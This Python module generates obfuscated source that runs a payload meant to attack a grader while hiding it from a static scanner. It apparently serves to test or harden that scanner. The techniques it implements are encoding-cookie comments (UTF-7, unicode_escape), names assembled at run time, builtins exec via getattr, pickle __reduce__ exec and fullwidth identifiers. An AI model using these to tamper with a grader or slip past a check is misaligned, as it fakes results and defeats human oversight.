"""Ways to hide attack code from a static check of the submission (``cases.py``).

Each function takes a payload (Python source that attacks the grader) and returns source that
runs it while spelling none of it out where a naive scanner looks:

* ``cookie_utf7`` / ``cookie_unicode_escape``: the module declares a source encoding (PEP 263)
  in which a comment line decodes to the payload; a scanner that reads the file as UTF-8 sees
  one comment (the file is plain ASCII, so it survives any UTF-8 round trip unchanged);
* ``computed_names``: ``sys.modules`` and ``exec`` reached through ``string.Formatter`` and
  ``operator.methodcaller`` with names assembled at run time;
* ``builtins_exec``: ``compile`` and ``exec`` taken from the builtins module (``print.__self__``)
  by ``getattr`` with literal names that are not on a list of banned attributes;
* ``pickled_exec``: a pickle whose ``__reduce__`` calls ``exec`` with the payload;
* ``fullwidth_names``: NFKC-equivalent identifiers (``modules`` spelled in fullwidth letters).
"""

from __future__ import annotations

import pickle
import re

PLACEHOLDER = "# <atk-hidden>"


def _hex(payload: str) -> str:
    return payload.encode().hex()


def builtins_exec(payload: str) -> str:
    return (f'_atk_builtins = print.__self__\n'
            f'getattr(_atk_builtins, "exec")(getattr(_atk_builtins, "compile")(\n'
            f'    bytes.fromhex("{_hex(payload)}").decode(), __name__, "exec"))\n')


def computed_names(payload: str) -> str:
    return ("import operator as _atk_operator\nimport string as _atk_string\nimport sys as _atk_sys\n\n"
            '_atk_builtins = _atk_string.Formatter().get_field("0." + "mod" + "ules", (_atk_sys,), {})[0]["buil" + "tins"]\n'
            f'_atk_operator.methodcaller("ex" + "ec", bytes.fromhex("{_hex(payload)}").decode())(_atk_builtins)\n')


class _Exec:
    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self) -> tuple:
        return exec, (self.source,)


def pickled_exec(payload: str) -> str:
    return f"import pickle as _atk_pickle\n\n_atk_pickle.loads({pickle.dumps(_Exec(payload), protocol=2)!r})\n"


def fullwidth_names(payload: str, names: tuple[str, ...] = ("modules", "_getframe", "f_back", "f_locals")) -> str:
    """``payload`` with the attribute ``names`` spelled in fullwidth letters (NFKC folds them back;
    a leading underscore stays ASCII, as an identifier cannot start with a fullwidth one)."""
    def fullwidth(name: str) -> str:
        head = len(name) - len(name.lstrip("_"))
        return name[:head] + "".join(chr(ord(c) + 0xFEE0) if c.isalnum() or c == "_" else c for c in name[head:])

    pattern = re.compile(r"\.(" + "|".join(map(re.escape, names)) + r")\b")
    return pattern.sub(lambda m: "." + fullwidth(m.group(1)), payload)


def _encode_lines(module: str, encode) -> str:
    return "\n".join(encode(line) for line in module.split("\n"))


def cookie_utf7(module: str, payload: str) -> str:
    """``module`` (which holds ``PLACEHOLDER`` on a line of its own) declared as UTF-7, with the
    payload in a comment whose newlines are UTF-7 escapes (``+AAo-``)."""
    def utf7(text: str) -> str:
        return "".join("+AAo-" if ch == "\n" else ch.encode("utf-7").decode("ascii") for ch in text)

    hidden = "#" + utf7("\n" + payload)
    body = _encode_lines(module, lambda line: hidden if line == PLACEHOLDER else line.encode("utf-7").decode("ascii"))
    return "# -*- coding: utf-7 -*-\n" + body


def cookie_unicode_escape(module: str, payload: str) -> str:
    """``module`` declared as ``unicode_escape``, with the payload in a comment whose newlines
    are written ``\\n``; every other line is escaped so that it decodes to itself."""
    def escape(text: str) -> str:
        return text.encode("unicode_escape").decode("ascii")

    hidden = "#" + escape("\n" + payload)
    return "# -*- coding: unicode_escape -*-\n" + _encode_lines(
        module, lambda line: hidden if line == PLACEHOLDER else escape(line))
